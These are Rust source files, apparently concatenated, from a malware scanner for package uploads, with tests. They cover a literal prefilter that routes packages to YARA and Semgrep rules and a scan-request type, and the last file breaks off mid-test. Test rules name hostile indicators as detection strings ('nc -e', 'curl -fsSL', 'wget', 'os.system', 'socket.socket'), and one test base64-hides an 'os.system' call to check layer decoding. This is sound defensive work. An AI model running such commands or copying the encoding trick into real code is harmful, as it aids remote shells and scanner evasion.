rule size { condition: filesize > 10 }
"#,
        );
        let index = PrefilterIndex::build(Some(&rules), None);
        let routing = index.route(b"", NO_SOURCES);
        assert_eq!(routing.yara, vec![false, true, true]);
        assert_eq!(routing.yara_routed(), index.always_on_count());
    }

    #[test]
    fn empty_sources_route_no_semgrep_atom_rules() {
        let rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
        );
        let index = PrefilterIndex::build(None, Some(&rules));
        // No sources at all: nothing to parse, nothing routed.
        let routing = index.route(b"eval marker only in buffer", NO_SOURCES);
        assert_eq!(routing.semgrep, vec![false]);
        // An empty source string: still nothing routed.
        let routing = index.route(b"", &[""]);
        assert_eq!(routing.semgrep, vec![false]);
    }

    #[test]
    fn route_all_covers_every_rule_even_dead_ones() {
        let rules = yara("rule dead { condition: false }");
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.route_all().yara, vec![true]);
    }

    #[test]
    fn route_into_reuse_matches_fresh_route() {
        let yara_rules = yara(
            r#"
rule a { strings: $x = "os.system" condition: $x }
rule b { strings: $x = "socket.socket" condition: $x }
"#,
        );
        let semgrep_rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
        );
        let index = PrefilterIndex::build(Some(&yara_rules), Some(&semgrep_rules));
        let mut routing = Routing::empty();
        let mut scratch = PrefilterScratch::new();
        let cases: [(&[u8], &[&str]); 4] = [
            (b"import os\nos.system('id')\n", &["eval(x)"]),
            (b"socket.socket()", &[]),
            (b"nothing", &["print(1)"]),
            (b"os.system socket.socket", &["eval(a)"]),
        ];
        for (buffer, sources) in cases {
            index.route_into(buffer, sources, &mut routing, &mut scratch);
            let fresh = index.route(buffer, sources);
            assert_eq!(routing.yara, fresh.yara);
            assert_eq!(routing.semgrep, fresh.semgrep);
        }
    }

    #[test]
    fn early_exit_after_all_atoms_seen_routes_everything() {
        let rules = yara(
            r#"
rule a { strings: $x = "aa" condition: $x }
rule b { strings: $x = "bb" condition: $x }
"#,
        );
        let index = PrefilterIndex::build(Some(&rules), None);
        // Both atoms occur early; the trailing text is skipped but the
        // routing is already complete.
        let mut buffer = b"aabb".to_vec();
        buffer.extend(std::iter::repeat_n(b'z', 1 << 16));
        buffer.extend_from_slice(b"aa");
        assert_eq!(index.route(&buffer, NO_SOURCES).yara, vec![true, true]);
    }

    #[test]
    fn artifact_routing_sees_decoded_layers_and_python_sources() {
        use crate::artifact::{ArtifactConfig, FileAnalysis};
        use crate::request::FileEntry;
        use std::sync::Arc;

        let yara_rules = yara(
            r#"
rule surface { strings: $x = "requests.post" condition: $x }
rule hidden { strings: $x = "os.system" condition: $x }
"#,
        );
        let semgrep_rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
        );
        let index = PrefilterIndex::build(Some(&yara_rules), Some(&semgrep_rules));
        // The only occurrence of `os.system` is base64-encoded inside a
        // literal; `eval` appears in the python surface text.
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let code = format!("blob = '{payload}'\neval(blob)\n");
        let entry = FileEntry::new("mod.py", code.into_bytes());
        let artifact = Arc::new(FileAnalysis::build(
            &entry,
            None,
            &ArtifactConfig::default(),
        ));
        let mut routing = Routing::empty();
        let mut scratch = PrefilterScratch::new();
        index.route_artifacts_into(std::slice::from_ref(&artifact), &mut routing, &mut scratch);
        assert_eq!(
            routing.yara,
            vec![false, true],
            "layer-only atom must route its rule"
        );
        assert_eq!(routing.semgrep, vec![true]);
        // With layer extraction disabled the hidden atom is invisible.
        let bare = Arc::new(FileAnalysis::build(
            &entry,
            None,
            &ArtifactConfig::without_layers(),
        ));
        index.route_artifacts_into(std::slice::from_ref(&bare), &mut routing, &mut scratch);
        assert_eq!(routing.yara, vec![false, false]);
    }

    #[test]
    fn seeded_rebuild_keeps_atom_ids_stable() {
        let old_rules = yara(
            r#"
rule a { strings: $x = "os.system" condition: $x }
rule b { strings: $x = "socket.socket" condition: $x }
"#,
        );
        let old = PrefilterIndex::build(Some(&old_rules), None);
        // The new bundle reorders rules, drops one atom, adds another.
        let new_rules = yara(
            r#"
rule c { strings: $x = "curl http" condition: $x }
rule a { strings: $x = "os.system" condition: $x }
"#,
        );
        let new = PrefilterIndex::build_seeded(Some(&new_rules), None, Some(&old));
        // Shared atoms keep their interned ids; the dropped atom's id is
        // not recycled; the new atom extends the table.
        assert_eq!(new.atom_id("os.system"), old.atom_id("os.system"));
        assert_eq!(new.atom_id("socket.socket"), old.atom_id("socket.socket"));
        assert_eq!(new.atom_id("curl http"), Some(2));
        // Seeded-but-unused atoms never route anything...
        let routing = new.route(b"socket.socket()", NO_SOURCES);
        assert_eq!(routing.yara_routed(), 0);
        // ...and routing decisions match an unseeded build.
        let unseeded = PrefilterIndex::build(Some(&new_rules), None);
        for buffer in [
            b"curl http://x".as_slice(),
            b"os.system('id')",
            b"nothing here",
        ] {
            assert_eq!(
                new.route(buffer, NO_SOURCES).yara,
                unseeded.route(buffer, NO_SOURCES).yara
            );
        }
    }

    #[test]
    fn diff_reports_exactly_the_changed_rules() {
        let old_yara = yara(
            r#"
rule same { strings: $x = "os.system" condition: $x }
rule retuned { strings: $x = "curl" condition: $x }
rule dropped { strings: $x = "wget" condition: $x }
"#,
        );
        let old_semgrep = semgrep(
            "rules:\n  - id: sg-same\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
        );
        let old = PrefilterIndex::build(Some(&old_yara), Some(&old_semgrep));
        let new_yara = yara(
            r#"
rule same { strings: $x = "os.system" condition: $x }
rule retuned { strings: $x = "curl -fsSL" condition: $x }
rule added { strings: $x = "nc -e" condition: $x }
"#,
        );
        let new = PrefilterIndex::build_seeded(Some(&new_yara), Some(&old_semgrep), Some(&old));
        let delta = old.diff(&new);
        assert_eq!(delta.unchanged, 2, "`same` and `sg-same`");
        assert_eq!(delta.removed, 1, "`dropped`");
        let names: Vec<(&str, DeltaKind)> = delta
            .changed
            .iter()
            .map(|c| (c.name.as_str(), c.kind))
            .collect();
        assert_eq!(
            names,
            vec![
                ("retuned", DeltaKind::AtomsChanged),
                ("added", DeltaKind::Added),
            ]
        );
        assert!(delta.changed.iter().all(|c| c.exhaustive));
        assert_eq!(delta.changed[1].atoms, vec!["nc -e".to_owned()]);
        assert_eq!(
            delta.new_atoms,
            vec!["curl -fssl".to_owned(), "nc -e".to_owned()],
            "folded, sorted, old atoms excluded"
        );
        // Exhaustive-flag flips count as changes even with equal atoms.
        let relaxed = yara("rule same { strings: $x = /os\\.system/ condition: $x }");
        let relaxed_index = PrefilterIndex::build(Some(&relaxed), None);
        let flip = old.diff(&relaxed_index);
        assert_eq!(flip.changed.len(), 1);
        assert_eq!(flip.changed[0].kind, DeltaKind::AtomsChanged);
        assert!(!flip.changed[0].exhaustive);
    }

    #[test]
    fn diff_against_an_identical_bundle_is_empty() {
        let rules = yara("rule a { strings: $x = \"os.system\" condition: $x }");
        let old = PrefilterIndex::build(Some(&rules), None);
        let new = PrefilterIndex::build_seeded(Some(&rules), None, Some(&old));
        let delta = old.diff(&new);
        assert!(delta.changed.is_empty());
        assert!(delta.new_atoms.is_empty());
        assert_eq!(delta.unchanged, 1);
        assert_eq!(delta.removed, 0);
    }

    #[test]
    fn atom_spanning_buffer_end_is_found() {
        let rules = yara("rule a { strings: $x = \"needle\" condition: $x }");
        let index = PrefilterIndex::build(Some(&rules), None);
        let mut buffer = vec![b'x'; 4096];
        buffer.extend_from_slice(b"need");
        buffer.extend_from_slice(b"le");
        assert_eq!(index.route(&buffer, NO_SOURCES).yara, vec![true]);
    }
}

//! The global literal prefilter index.
//!
//! One case-insensitive Aho–Corasick automaton is built over the distinct
//! plain-text atoms of every compiled YARA rule plus the string atoms of
//! every Semgrep pattern. Automaton passes over each engine's own scan
//! input (the package buffer for YARA, the Python sources for Semgrep)
//! then route the package to exactly the rules whose atoms occur; rules
//! with an *exhaustive* atom set (see [`yara_engine::RuleAtoms`] and
//! [`semgrep_engine::SemgrepRule::literal_atoms`]) that did not hit are
//! provably non-matching and are skipped without condition evaluation.
//! Rules without such a guarantee are routed always.
//!
//! Case-insensitive matching over-approximates both case-sensitive and
//! `nocase` strings, so folding everything into one automaton can only
//! add spurious routes (a perf loss), never drop a true match.

use std::collections::HashMap;

use semgrep_engine::CompiledSemgrepRules;
use textmatch::{AhoCorasick, MatchKind};
use yara_engine::CompiledRules;

/// Which rules of each engine a package must be scanned with.
#[derive(Debug, Clone)]
pub struct Routing {
    /// Per YARA rule (declaration order): must this rule be evaluated?
    pub yara: Vec<bool>,
    /// Per Semgrep rule (file order): must this rule be evaluated?
    pub semgrep: Vec<bool>,
}

impl Routing {
    /// Number of routed YARA rules.
    pub fn yara_routed(&self) -> usize {
        self.yara.iter().filter(|&&b| b).count()
    }

    /// Number of routed Semgrep rules.
    pub fn semgrep_routed(&self) -> usize {
        self.semgrep.iter().filter(|&&b| b).count()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RuleId {
    Yara(usize),
    Semgrep(usize),
}

/// The compiled prefilter over one rule bundle.
#[derive(Debug)]
pub struct PrefilterIndex {
    automaton: AhoCorasick,
    /// Automaton pattern index → rules gated on that atom.
    routes: Vec<Vec<RuleId>>,
    /// Rules that must always be evaluated (no exhaustive atom set).
    always: Vec<RuleId>,
    yara_count: usize,
    semgrep_count: usize,
    atom_count: usize,
}

impl PrefilterIndex {
    /// Builds the index over the given rule sets.
    pub fn build(yara: Option<&CompiledRules>, semgrep: Option<&CompiledSemgrepRules>) -> Self {
        let mut atoms: Vec<String> = Vec::new();
        let mut atom_ids: HashMap<String, usize> = HashMap::new();
        let mut routes: Vec<Vec<RuleId>> = Vec::new();
        let mut always: Vec<RuleId> = Vec::new();

        let mut intern = |atom: &str, atoms: &mut Vec<String>, routes: &mut Vec<Vec<RuleId>>| {
            let folded = atom.to_ascii_lowercase();
            *atom_ids.entry(folded.clone()).or_insert_with(|| {
                atoms.push(folded);
                routes.push(Vec::new());
                atoms.len() - 1
            })
        };

        if let Some(rules) = yara {
            for (ri, rule) in rules.rules.iter().enumerate() {
                let ra = rule.literal_atoms();
                if ra.exhaustive {
                    // An exhaustive empty atom set means the rule can
                    // never match (e.g. `condition: false`): no routes.
                    for atom in &ra.atoms {
                        let id = intern(atom, &mut atoms, &mut routes);
                        routes[id].push(RuleId::Yara(ri));
                    }
                } else {
                    always.push(RuleId::Yara(ri));
                }
            }
        }
        if let Some(rules) = semgrep {
            for (ri, rule) in rules.rules.iter().enumerate() {
                match rule.literal_atoms() {
                    Some(rule_atoms) if !rule_atoms.is_empty() => {
                        for atom in &rule_atoms {
                            let id = intern(atom, &mut atoms, &mut routes);
                            routes[id].push(RuleId::Semgrep(ri));
                        }
                    }
                    _ => always.push(RuleId::Semgrep(ri)),
                }
            }
        }

        PrefilterIndex {
            automaton: AhoCorasick::new(&atoms, MatchKind::CaseInsensitive),
            routes,
            always,
            yara_count: yara.map_or(0, CompiledRules::len),
            semgrep_count: semgrep.map_or(0, CompiledSemgrepRules::len),
            atom_count: atoms.len(),
        }
    }

    /// Number of distinct atoms in the automaton.
    pub fn atom_count(&self) -> usize {
        self.atom_count
    }

    /// Number of rules that bypass the prefilter.
    pub fn always_on_count(&self) -> usize {
        self.always.len()
    }

    /// Routes one package: automaton passes mark the rules whose atoms
    /// occur, plus every always-on rule.
    ///
    /// YARA rules are routed from `buffer` (what the scanner scans);
    /// Semgrep rules are routed from `sources` (what the structural
    /// matcher parses). Routing each engine from its own scan input is
    /// what makes the skip sound for *any* request, including raw ones
    /// whose sources are not substrings of the buffer.
    pub fn route<S: AsRef<[u8]>>(&self, buffer: &[u8], sources: &[S]) -> Routing {
        let mut routing = Routing {
            yara: vec![false; self.yara_count],
            semgrep: vec![false; self.semgrep_count],
        };
        for id in &self.always {
            routing.mark(*id);
        }
        self.mark_hits(buffer, &mut routing, true, false);
        for source in sources {
            self.mark_hits(source.as_ref(), &mut routing, false, true);
        }
        routing
    }

    /// One automaton pass over `text`, marking hit atoms' routes for the
    /// selected engine(s).
    fn mark_hits(&self, text: &[u8], routing: &mut Routing, mark_yara: bool, mark_semgrep: bool) {
        let mut seen = vec![false; self.routes.len()];
        for m in self.automaton.find_all(text) {
            if seen[m.pattern] {
                continue;
            }
            seen[m.pattern] = true;
            for id in &self.routes[m.pattern] {
                match id {
                    RuleId::Yara(_) if mark_yara => routing.mark(*id),
                    RuleId::Semgrep(_) if mark_semgrep => routing.mark(*id),
                    _ => {}
                }
            }
        }
    }

    /// A routing that evaluates everything (prefilter disabled).
    pub fn route_all(&self) -> Routing {
        Routing {
            yara: vec![true; self.yara_count],
            semgrep: vec![true; self.semgrep_count],
        }
    }
}

impl Routing {
    fn mark(&mut self, id: RuleId) {
        match id {
            RuleId::Yara(i) => self.yara[i] = true,
            RuleId::Semgrep(i) => self.semgrep[i] = true,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const NO_SOURCES: &[&str] = &[];

    fn yara(src: &str) -> CompiledRules {
        yara_engine::compile(src).expect("yara compiles")
    }

    fn semgrep(src: &str) -> CompiledSemgrepRules {
        semgrep_engine::compile(src).expect("semgrep compiles")
    }

    #[test]
    fn routes_only_rules_whose_atoms_occur() {
        let rules = yara(
            r#"
rule a { strings: $x = "os.system" condition: $x }
rule b { strings: $x = "socket.socket" condition: $x }
"#,
        );
        let index = PrefilterIndex::build(Some(&rules), None);
        let routing = index.route(b"import os\nos.system('id')\n", NO_SOURCES);
        assert_eq!(routing.yara, vec![true, false]);
        let routing = index.route(b"nothing suspicious", NO_SOURCES);
        assert_eq!(routing.yara_routed(), 0);
    }

    #[test]
    fn case_insensitive_routing_over_approximates() {
        let rules = yara("rule a { strings: $x = \"OS.System\" condition: $x }");
        let index = PrefilterIndex::build(Some(&rules), None);
        // The case-sensitive rule cannot match, but the prefilter must
        // still route it (only the scanner decides the final verdict).
        assert_eq!(index.route(b"os.system", NO_SOURCES).yara, vec![true]);
    }

    #[test]
    fn non_exhaustive_rules_are_always_routed() {
        let rules = yara("rule re { strings: $r = /a+b/ condition: $r }");
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.always_on_count(), 1);
        assert_eq!(index.route(b"zzz", NO_SOURCES).yara, vec![true]);
    }

    #[test]
    fn never_matching_rule_is_never_routed() {
        let rules = yara("rule dead { condition: false }");
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.always_on_count(), 0);
        assert_eq!(index.route(b"anything", NO_SOURCES).yara, vec![false]);
    }

    #[test]
    fn semgrep_any_of_semantics() {
        let rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern-either:\n      - pattern: eval($X)\n      - pattern: exec($X)\n",
        );
        let index = PrefilterIndex::build(None, Some(&rules));
        assert_eq!(index.route(b"", &["exec(code)"]).semgrep, vec![true]);
        assert_eq!(index.route(b"", &["eval(code)"]).semgrep, vec![true]);
        assert_eq!(index.route(b"", &["print(code)"]).semgrep, vec![false]);
    }

    #[test]
    fn engines_route_from_their_own_scan_input() {
        let yara_rules = yara("rule a { strings: $x = \"os.system\" condition: $x }");
        let semgrep_rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n",
        );
        let index = PrefilterIndex::build(Some(&yara_rules), Some(&semgrep_rules));
        // Atom only in a source: Semgrep must be routed even though the
        // buffer (what YARA scans) is clean — raw requests make no
        // sources-are-a-substring-of-buffer promise.
        let routing = index.route(b"clean buffer", &["os.system('x')"]);
        assert_eq!(routing.yara, vec![false]);
        assert_eq!(routing.semgrep, vec![true]);
        // Atom only in the buffer: YARA routed, Semgrep not.
        let routing = index.route(b"os.system('x')", &["clean source"]);
        assert_eq!(routing.yara, vec![true]);
        assert_eq!(routing.semgrep, vec![false]);
    }

    #[test]
    fn atoms_are_deduplicated_across_rules() {
        let rules = yara(
            r#"
rule a { strings: $x = "os.system" condition: $x }
rule b { strings: $x = "os.system" $y = "curl" condition: all of them }
"#,
        );
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.atom_count(), 2);
        // `curl` alone routes rule b (any-of semantics), which the
        // scanner then rejects — routing is a superset of matching.
        let routing = index.route(b"curl http://x", NO_SOURCES);
        assert_eq!(routing.yara, vec![false, true]);
    }

    #[test]
    fn empty_rule_sets() {
        let index = PrefilterIndex::build(None, None);
        let routing = index.route(b"data", NO_SOURCES);
        assert!(routing.yara.is_empty() && routing.semgrep.is_empty());
    }

    #[test]
    fn empty_buffer_routes_only_always_on_rules() {
        // An empty upload must not route atom-gated rules, but always-on
        // rules (regex-only, filesize conditions) still run.
        let rules = yara(
            r#"
rule atom { strings: $a = "os.system" condition: $a }
rule rx { strings: $r = /ab+c/ condition: $r }
rule size { condition: filesize > 10 }
"#,
        );
        let index = PrefilterIndex::build(Some(&rules), None);
        let routing = index.route(b"", NO_SOURCES);
        assert_eq!(routing.yara, vec![false, true, true]);
        assert_eq!(routing.yara_routed(), index.always_on_count());
    }

    #[test]
    fn empty_sources_route_no_semgrep_atom_rules() {
        let rules = semgrep(
            "rules:\n  - id: t\n    languages: [python]\n    message: m\n    pattern: eval($X)\n",
        );
        let index = PrefilterIndex::build(None, Some(&rules));
        // No sources at all: nothing to parse, nothing routed.
        let routing = index.route(b"eval marker only in buffer", NO_SOURCES);
        assert_eq!(routing.semgrep, vec![false]);
        // An empty source string: still nothing routed.
        let routing = index.route(b"", &[""]);
        assert_eq!(routing.semgrep, vec![false]);
    }

    #[test]
    fn route_all_covers_every_rule_even_dead_ones() {
        let rules = yara("rule dead { condition: false }");
        let index = PrefilterIndex::build(Some(&rules), None);
        assert_eq!(index.route_all().yara, vec![true]);
    }

    #[test]
    fn atom_spanning_buffer_end_is_found() {
        let rules = yara("rule a { strings: $x = \"needle\" condition: $x }");
        let index = PrefilterIndex::build(Some(&rules), None);
        let mut buffer = vec![b'x'; 4096];
        buffer.extend_from_slice(b"need");
        buffer.extend_from_slice(b"le");
        assert_eq!(index.route(&buffer, NO_SOURCES).yara, vec![true]);
    }
}

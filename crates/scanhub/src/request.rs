//! Scan requests — the service's wire type.
//!
//! A request is a list of **file entries** (name + bytes), not a
//! pre-flattened buffer: every scan view (the YARA byte units, the
//! Python sources for Semgrep, the per-file digests keying the artifact
//! cache) is *derived* from the one stored copy of each file's bytes.
//! The seed model carried the same content twice — a concatenated
//! buffer plus owned source strings — which doubled the resident size
//! of every queued Python-heavy upload.

use std::sync::{Arc, OnceLock};

use oss_registry::Package;

use crate::cache::DigestKey;

/// One file of a package upload: a name and a single shared copy of its
/// bytes.
///
/// Bytes are reference-counted so cloning a request (queueing, caching,
/// artifact building) never copies file content.
#[derive(Debug, Clone)]
pub struct FileEntry {
    name: String,
    bytes: Arc<Vec<u8>>,
    /// Lazily computed content digest, shared across clones. The bytes
    /// are immutable once the entry exists, so the first hash serves
    /// every later cache lookup, sibling registration and re-submission
    /// of the same entry.
    digest: Arc<OnceLock<DigestKey>>,
}

impl PartialEq for FileEntry {
    fn eq(&self, other: &Self) -> bool {
        self.name == other.name && self.bytes == other.bytes
    }
}

impl Eq for FileEntry {}

impl FileEntry {
    /// Creates an entry from a file name and its raw bytes.
    pub fn new(name: impl Into<String>, bytes: Vec<u8>) -> Self {
        FileEntry {
            name: name.into(),
            bytes: Arc::new(bytes),
            digest: Arc::new(OnceLock::new()),
        }
    }

    /// The file name (registry-relative path).
    pub fn name(&self) -> &str {
        &self.name
    }

    /// The file's raw bytes.
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// The shared handle to the bytes (the artifact builder keeps one,
    /// so cached artifacts add no second copy of the content).
    pub(crate) fn shared_bytes(&self) -> Arc<Vec<u8>> {
        Arc::clone(&self.bytes)
    }

    /// Whether this entry is a Python source (parsed for Semgrep and
    /// string-literal interning).
    pub fn is_python(&self) -> bool {
        self.name.ends_with(".py")
    }

    /// Content digest keying the per-file artifact cache.
    ///
    /// The digest covers the bytes plus the python-ness of the entry
    /// (the analysis of `a.py` differs from the analysis of identical
    /// bytes named `a.txt`), but *not* the full name: the same source
    /// file shipped in two packages shares one artifact.
    pub fn digest(&self) -> DigestKey {
        *self.digest.get_or_init(|| {
            let mut hasher = digest::Sha256::new();
            hasher.update(&[u8::from(self.is_python())]);
            hasher.update(&self.bytes);
            hasher.finalize()
        })
    }
}

/// One package prepared for scanning: an ordered list of file entries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanRequest {
    files: Vec<FileEntry>,
}

impl ScanRequest {
    /// Creates a request from prepared file entries.
    pub fn from_files(files: Vec<FileEntry>) -> Self {
        ScanRequest { files }
    }

    /// A single-file Python request (tests, ad-hoc snippets).
    pub fn from_source(name: impl Into<String>, code: impl Into<String>) -> Self {
        ScanRequest::from_files(vec![FileEntry::new(name, code.into().into_bytes())])
    }

    /// A single-file opaque request (no Python analysis).
    pub fn from_bytes(name: impl Into<String>, bytes: Vec<u8>) -> Self {
        ScanRequest::from_files(vec![FileEntry::new(name, bytes)])
    }

    /// Prepares an [`oss_registry::Package`] upload for scanning: one
    /// entry per source file plus a rendered `PKG-INFO` entry, so
    /// metadata rules can fire.
    pub fn from_package(pkg: &Package) -> Self {
        let mut files: Vec<FileEntry> = pkg
            .files()
            .iter()
            .map(|f| FileEntry::new(f.path.clone(), f.contents.clone().into_bytes()))
            .collect();
        files.push(FileEntry::new(
            "PKG-INFO",
            oss_registry::render_pkg_info(pkg.metadata()).into_bytes(),
        ));
        ScanRequest { files }
    }

    /// The file entries, in scan order.
    pub fn files(&self) -> &[FileEntry] {
        &self.files
    }

    /// Total length of the scan view (what `filesize` rule conditions
    /// observe): every entry plus one newline separator between
    /// entries. The separator guarantees no text atom or token run can
    /// span a file boundary, so scanning files as independent units and
    /// unioning their hit sets is equivalent to scanning the flat view
    /// for every literal atom. A regex whose character classes can
    /// match `\n` could still straddle the separator in the flat view;
    /// per-unit scanning deliberately excludes such cross-file matches
    /// — a string match that spans two unrelated files is noise, not
    /// evidence.
    pub fn scan_len(&self) -> usize {
        self.files.iter().map(|f| f.bytes.len()).sum::<usize>() + self.files.len().saturating_sub(1)
    }

    /// Heap bytes of file content this request holds. Exactly one copy
    /// per file: equal to [`ScanRequest::scan_len`], which the memory-
    /// accounting test pins (the seed model stored Python content twice).
    pub fn stored_bytes(&self) -> usize {
        self.files
            .iter()
            .map(|f| {
                // An entry whose Arc is shared with a clone is charged to
                // one holder only.
                if Arc::strong_count(&f.bytes) > 1 {
                    f.bytes.len() / Arc::strong_count(&f.bytes)
                } else {
                    f.bytes.len()
                }
            })
            .sum()
    }

    /// The flattened scan view: every entry concatenated in order,
    /// newline-separated. The hub never materializes this (it scans per
    /// entry and merges rebased hit sets); oracles and differential
    /// tests use it to reproduce the pre-artifact whole-buffer scan
    /// semantics.
    pub fn concat_buffer(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.scan_len());
        for (i, f) in self.files.iter().enumerate() {
            if i > 0 {
                out.push(b'\n');
            }
            out.extend_from_slice(&f.bytes);
        }
        out
    }

    /// The Python sources, as lossy text (what Semgrep parses).
    pub fn python_sources(&self) -> impl Iterator<Item = std::borrow::Cow<'_, str>> {
        self.files
            .iter()
            .filter(|f| f.is_python())
            .map(|f| String::from_utf8_lossy(&f.bytes))
    }

    /// Content digest keying the verdict cache: sha256 over every
    /// entry's name and bytes, length-prefixed so concatenation
    /// boundaries cannot collide. Streamed straight into the hasher —
    /// no flattening copy on the submit path; use
    /// [`ScanRequest::digest_hex`] for display.
    pub fn digest(&self) -> DigestKey {
        let mut hasher = digest::Sha256::new();
        for f in &self.files {
            hasher.update(&(f.name.len() as u64).to_le_bytes());
            hasher.update(f.name.as_bytes());
            hasher.update(&(f.bytes.len() as u64).to_le_bytes());
            hasher.update(&f.bytes);
        }
        hasher.finalize()
    }

    /// The content digest rendered as 64 lowercase hex chars, for logs
    /// and reports.
    pub fn digest_hex(&self) -> String {
        digest::to_hex(&self.digest())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};

    fn sample() -> Package {
        Package::new(
            PackageMetadata::new("pkg", "1.0"),
            vec![
                SourceFile::new("setup.py", "from setuptools import setup\nsetup()\n"),
                SourceFile::new("pkg/data.txt", "not python\n"),
            ],
            Ecosystem::PyPi,
        )
    }

    #[test]
    fn from_package_includes_metadata_and_python_sources() {
        let req = ScanRequest::from_package(&sample());
        assert_eq!(req.files().len(), 3);
        let text = String::from_utf8_lossy(&req.concat_buffer()).into_owned();
        assert!(text.contains("Name: pkg"));
        assert!(text.contains("setuptools"));
        let sources: Vec<String> = req.python_sources().map(|s| s.into_owned()).collect();
        assert_eq!(sources.len(), 1, "only .py files are Semgrep sources");
        assert!(sources[0].contains("setup()"));
    }

    #[test]
    fn file_content_is_stored_exactly_once() {
        // The memory-accounting assertion of the refactor: the seed's
        // request model held Python content in both the flat buffer and
        // the owned source list, so a pure-Python upload cost ~2x its
        // size. The entry model stores one copy; every scan view is
        // derived.
        let req = ScanRequest::from_package(&sample());
        let content: usize = req.files().iter().map(|f| f.bytes().len()).sum();
        assert_eq!(req.stored_bytes(), content);
        // The scan view adds only the virtual separators, never a copy.
        assert_eq!(req.scan_len(), content + req.files().len() - 1);
        assert_eq!(req.concat_buffer().len(), req.scan_len());
        // The seed model's footprint for the same package: the flat
        // buffer plus a second copy of every Python source.
        let python: usize = req
            .files()
            .iter()
            .filter(|f| f.is_python())
            .map(|f| f.bytes().len())
            .sum();
        assert!(python > 0);
        assert!(req.stored_bytes() < content + python);
    }

    #[test]
    fn cloned_requests_share_bytes_instead_of_copying() {
        let req = ScanRequest::from_package(&sample());
        let before = req.stored_bytes();
        let clone = req.clone();
        // Shared Arcs split the charge between holders: two holders of
        // one copy together account for the size of one copy.
        assert!(req.stored_bytes() + clone.stored_bytes() <= before + req.files().len());
        assert_eq!(clone, req);
    }

    #[test]
    fn digest_is_stable_and_content_sensitive() {
        let a = ScanRequest::from_package(&sample());
        let b = ScanRequest::from_package(&sample());
        assert_eq!(a.digest(), b.digest());
        let mut files = a.files().to_vec();
        files.push(FileEntry::new("extra.py", b"x = 1\n".to_vec()));
        let c = ScanRequest::from_files(files);
        assert_ne!(a.digest(), c.digest());
    }

    #[test]
    fn digest_distinguishes_file_boundaries() {
        let a = ScanRequest::from_files(vec![FileEntry::new("a", b"xy".to_vec())]);
        let b = ScanRequest::from_files(vec![
            FileEntry::new("a", b"x".to_vec()),
            FileEntry::new("a", b"y".to_vec()),
        ]);
        assert_ne!(a.digest(), b.digest());
    }

    #[test]
    fn digest_distinguishes_names() {
        let a = ScanRequest::from_bytes("a.py", b"x = 1\n".to_vec());
        let b = ScanRequest::from_bytes("b.py", b"x = 1\n".to_vec());
        assert_ne!(a.digest(), b.digest());
    }

    #[test]
    fn entry_digest_is_content_addressed_across_names() {
        // The artifact cache shares analyses across packages: the same
        // source under two paths is one artifact...
        let a = FileEntry::new("pkg_a/util.py", b"import os\n".to_vec());
        let b = FileEntry::new("pkg_b/helpers.py", b"import os\n".to_vec());
        assert_eq!(a.digest(), b.digest());
        // ...but python-ness is part of the analysis, so identical bytes
        // under a non-.py name are a different artifact.
        let c = FileEntry::new("notes.txt", b"import os\n".to_vec());
        assert_ne!(a.digest(), c.digest());
        // And different bytes never collide with either.
        let d = FileEntry::new("pkg_a/util.py", b"import sys\n".to_vec());
        assert_ne!(a.digest(), d.digest());
    }

    #[test]
    fn digest_hex_renders_the_raw_digest() {
        let req = ScanRequest::from_source("snippet.py", "data = 1\n");
        let hex = req.digest_hex();
        assert_eq!(hex.len(), 64);
        assert!(hex.chars().all(|c| c.is_ascii_hexdigit()));
        let raw = req.digest();
        assert!(hex.starts_with(&format!("{:02x}", raw[0])));
    }
}

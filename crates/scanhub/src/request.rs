//! Scan requests and verdicts — the service's wire types.

use oss_registry::Package;

/// One package prepared for scanning.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanRequest {
    /// YARA scan buffer: all source files plus rendered `PKG-INFO`, so
    /// metadata rules can fire.
    pub buffer: Vec<u8>,
    /// Python sources for Semgrep's structural matcher.
    pub sources: Vec<String>,
}

impl ScanRequest {
    /// Creates a request from raw parts.
    pub fn new(buffer: Vec<u8>, sources: Vec<String>) -> Self {
        ScanRequest { buffer, sources }
    }

    /// Prepares an [`oss_registry::Package`] upload for scanning: the
    /// combined source plus rendered `PKG-INFO` as the YARA buffer, and
    /// every `.py` file as a Semgrep source.
    pub fn from_package(pkg: &Package) -> Self {
        let mut buffer = pkg.combined_source().into_bytes();
        buffer.extend_from_slice(oss_registry::render_pkg_info(pkg.metadata()).as_bytes());
        let sources = pkg
            .files()
            .iter()
            .filter(|f| f.path.ends_with(".py"))
            .map(|f| f.contents.clone())
            .collect();
        ScanRequest { buffer, sources }
    }

    /// Content digest keying the verdict cache: sha256 over the buffer
    /// and every source, length-prefixed so concatenation boundaries
    /// cannot collide. Streamed straight into the hasher — no
    /// concatenation copy, no hex-encode allocation on the submit path;
    /// use [`ScanRequest::digest_hex`] for display.
    pub fn digest(&self) -> [u8; 32] {
        let mut hasher = digest::Sha256::new();
        hasher.update(&(self.buffer.len() as u64).to_le_bytes());
        hasher.update(&self.buffer);
        for src in &self.sources {
            hasher.update(&(src.len() as u64).to_le_bytes());
            hasher.update(src.as_bytes());
        }
        hasher.finalize()
    }

    /// The content digest rendered as 64 lowercase hex chars, for logs
    /// and reports.
    pub fn digest_hex(&self) -> String {
        digest::to_hex(&self.digest())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};

    fn sample() -> Package {
        Package::new(
